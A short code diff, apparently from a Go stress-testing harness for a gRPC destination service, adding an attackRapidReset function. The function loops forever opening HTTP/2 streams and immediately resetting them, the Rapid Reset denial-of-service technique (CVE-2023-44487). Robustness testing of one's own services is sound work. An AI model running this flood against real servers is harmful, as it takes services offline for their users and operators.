@@ -209,6 +209,21 @@ func (t *target) openGet(c *rawConn, path string) error {
 	return c.request(id, &pb.GetDestination{Scheme: "k8s", Path: path})
 }
 
+// attackRapidReset opens streams and takes each back at once, so that no limit of open streams is reached
+// (CVE-2023-44487).
+func attackRapidReset(ctx context.Context, t *target) error {
+	return t.again(ctx, resetConns, func(c *rawConn) error {
+		for {
+			if err := t.openGet(c, authority); err != nil {
+				return err
+			}
+			if err := c.framer.WriteRSTStream(c.next-2, http2.ErrCodeCancel); err != nil {
+				return err
+			}
+		}
+	})
+}
+
 // attackSlow opens streams whose answers nobody reads, or a byte every few milliseconds.
 func attackSlow(ctx context.Context, t *target) error {
 	var all sync.WaitGroup
